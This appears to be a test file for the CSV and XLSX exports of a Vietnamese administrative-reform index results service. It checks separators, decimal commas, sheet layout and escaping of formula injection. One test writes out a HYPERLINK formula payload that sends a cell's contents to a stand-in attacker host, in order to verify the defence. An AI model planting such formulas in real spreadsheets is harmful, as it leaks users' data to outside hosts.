// Exports for Vietnamese Excel: the excel-vi CSV (";" and decimal commas) holds the standard CSV's figures, and the
// XLSX Bảng 1 has the index, the publication time in giờ Việt Nam, frozen header rows and an A4 landscape print set-up.
import t, { type Test } from 'tap'
import ExcelJS from 'exceljs'
import { buildTestApp } from './helpers/app.js'
import { loginAs } from './helpers/auth.js'
import { publishedDemoRound } from './helpers/results.js'
import { parseCsv } from './domain/fixtures.js'
import { parseCsv as parseCsvText } from '../server/domain/csv.js'

/** A CSV export's text without its BOM, after checking the BOM and the CRLF line ends. */
function csvText (t: Test, body: Buffer): string {
  t.same([...body.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark')
  const text = body.toString('utf8').slice(1)
  t.notOk(/[^\r]\n/.test(text), 'every line ends with CRLF')
  return text
}

t.test('the excel-vi CSV separates with ";", writes decimals with a comma, and holds the standard CSV\'s figures', async (t) => {
  const app = await buildTestApp(t)
  const roundId = await publishedDemoRound(app)
  const base = `/public/rounds/${roundId}/results/department/export?format=csv`
  const standard = await app.inject({ method: 'GET', url: base })
  const excel = await app.inject({ method: 'GET', url: `${base}&dialect=excel-vi` })
  t.equal(excel.statusCode, 200)
  t.equal(excel.headers['content-type'], 'text/csv; charset=utf-8')
  t.match(String(excel.headers['content-disposition']), /attachment; filename="chi-so-cchc-2020-department-v1-excel-vi\.csv"/)
  t.not(excel.headers.etag, standard.headers.etag, 'each dialect is its own file for caches')
  t.equal((await app.inject({ method: 'GET', url: `${base}&dialect=standard` })).body, standard.body, 'standard is the default')

  const standardRows = parseCsv(csvText(t, standard.rawPayload))
  const lines = csvText(t, excel.rawPayload).trim().split('\r\n')
  t.equal(lines[0], 'STT;Mã đơn vị;Đơn vị;1 TĐG;1 TĐ;2 TĐG;2 TĐ;3 TĐG;3 TĐ;4 TĐG;4 TĐ;5 TĐG;5 TĐ;6 TĐG;6 TĐ;7 TĐG;7 TĐ;Tổng điểm TĐG;Tổng điểm TĐ;Chỉ số CCHC;Xếp hạng;Xếp loại')
  t.equal(lines[15], '15;SO-LDTBXH;Sở Lao động - Thương binh và Xã hội;19;14,25;9,75;9,75;20,5;18,5;10;10;14;11;10;9;15,5;12,5;98,75;85;85;13;Tốt')
  t.equal(lines[21], ';;Trung bình;18,30;14,30;9,98;8,70;20,23;19,33;9,98;9,13;13,83;11,90;9,90;9,50;14,15;12,18;96,35;85,03;;;')
  const header = (lines[0] as string).split(';')
  const excelRows = lines.slice(1).map((line) => Object.fromEntries(line.split(';').map((cell, i) => [header[i], cell])))
  t.equal(excelRows.length, standardRows.length)
  let decimals = 0
  excelRows.forEach((row, i) => {
    const expected = standardRows[i] as Record<string, string>
    for (const [column, cell] of Object.entries(row)) {
      const figure = expected[column] as string
      if (/^\d+\.\d+$/.test(figure)) {
        decimals++
        t.equal(cell, figure.replace('.', ','), `${column} of line ${i + 2} has a decimal comma`)
      } else {
        t.equal(cell, figure, `${column} of line ${i + 2}`)
      }
    }
  })
  t.ok(decimals > 100, `the file has decimal figures (${decimals})`)

  const admin = await loginAs(app, 'admin')
  const adminExport = await app.inject({ method: 'GET', url: `/rounds/${roundId}/results/export?unitType=department&format=csv&dialect=excel-vi`, headers: admin.headers })
  t.equal(adminExport.body, excel.body, 'the admin route exports the same file')
  const unknown = await app.inject({ method: 'GET', url: `${base}&dialect=excel-fr` })
  t.equal(unknown.statusCode, 400)
  t.equal(unknown.json().code, 'VALIDATION_FAILED')
})

t.test('the XLSX Bảng 1 has the index of the results, the publication time in giờ Việt Nam, frozen headers and an A4 landscape page', async (t) => {
  const app = await buildTestApp(t)
  const roundId = await publishedDemoRound(app)
  const admin = await loginAs(app, 'admin')
  const xlsx = await app.inject({ method: 'GET', url: `/rounds/${roundId}/results/export?unitType=department&format=xlsx`, headers: admin.headers })
  t.equal(xlsx.statusCode, 200)
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
  const summary = workbook.getWorksheet('Bảng 1') as ExcelJS.Worksheet
  const detail = workbook.getWorksheet('Bảng 2') as ExcelJS.Worksheet

  const results = (await app.inject({ method: 'GET', url: `/rounds/${roundId}/results/versions/1?unitType=department`, headers: admin.headers })).json()
  t.equal(summary.getCell(3, 5).value, 'Chỉ số CCHC')
  t.equal(results.units.length, 20)
  results.units.forEach((unit: { unit: { name: string }, appraised: { index: string } }, i: number) => {
    const row = summary.getRow(4 + i)
    t.equal(row.getCell(2).value, unit.unit.name)
    t.equal(row.getCell(5).value, Number(unit.appraised.index), `${unit.unit.name}: the index as the results carry it (${unit.appraised.index})`)
    t.equal(row.getCell(5).numFmt, '#,##0.00')
  })

  const vietnam = new Intl.DateTimeFormat('en-GB', { timeZone: 'Asia/Ho_Chi_Minh', day: '2-digit', month: '2-digit', year: 'numeric', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' })
  const published = vietnam.format(new Date(results.version.publishedAt)).replace(',', '')
  t.match(published, /^\d\d\/\d\d\/\d{4} \d\d:\d\d$/)
  t.equal(summary.getCell(2, 1).value, `Phiên bản 1, công bố lúc ${published} (giờ Việt Nam)`)
  t.equal(detail.getCell(2, 1).value, summary.getCell(2, 1).value)

  t.match(summary.views[0], { state: 'frozen', ySplit: 3 }, 'Bảng 1: the title and header rows stay on screen')
  t.match(detail.views[0], { state: 'frozen', ySplit: 4, xSplit: 2 }, 'Bảng 2: both header rows and the unit column')
  for (const [sheet, titles] of [[summary, '3:3'], [detail, '3:4']] as const) {
    t.match(sheet.pageSetup, { paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: titles }, `${sheet.name}: A4 landscape, one page wide, headers on every page`)
  }
})

t.test('a name a spreadsheet would run as a formula reaches the CSV as text, in both dialects; the XLSX keeps it as text', async (t) => {
  const app = await buildTestApp(t)
  const roundId = await publishedDemoRound(app)
  const admin = await loginAs(app, 'admin')
  const units = (await app.inject({ method: 'GET', url: '/units?unitType=department&limit=100', headers: admin.headers })).json().items as { id: string, code: string }[]
  const unit = units.find((u) => u.code === 'SO-TTTT') as { id: string }
  const name = '=HYPERLINK("http://evil.example/?d="&C3,"Sở TTTT")'
  t.equal((await app.inject({ method: 'PATCH', url: `/units/${unit.id}`, headers: admin.headers, payload: { name } })).statusCode, 200)
  const published = await app.inject({ method: 'POST', url: `/rounds/${roundId}/results/publish`, headers: admin.headers, payload: { unitType: 'department', reason: 'Sửa tên đơn vị' } })
  t.equal(published.statusCode, 201)
  const base = `/public/rounds/${roundId}/results/department/export?format=csv`
  for (const [dialect, separator] of [['standard', ','], ['excel-vi', ';']] as const) {
    const text = csvText(t, (await app.inject({ method: 'GET', url: `${base}&dialect=${dialect}` })).rawPayload)
    const row = parseCsvText(text, separator).rows.find((r) => r.cells[1] === 'SO-TTTT')
    t.equal(row?.cells[2], `'${name}`, `${dialect}: the name's cell starts with an apostrophe, so a spreadsheet shows it as text`)
  }
  const xlsx = await app.inject({ method: 'GET', url: `/rounds/${roundId}/results/export?unitType=department&format=xlsx`, headers: admin.headers })
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
  const cells: ExcelJS.Cell[] = []
  ;(workbook.getWorksheet('Bảng 1') as ExcelJS.Worksheet).eachRow((row) => row.eachCell((cell) => { if (String(cell.value).includes('HYPERLINK')) cells.push(cell) }))
  t.equal(cells.length, 1)
  t.equal(cells[0]?.value, name, 'the workbook\'s cell is the name as text (a string, no formula)')
})
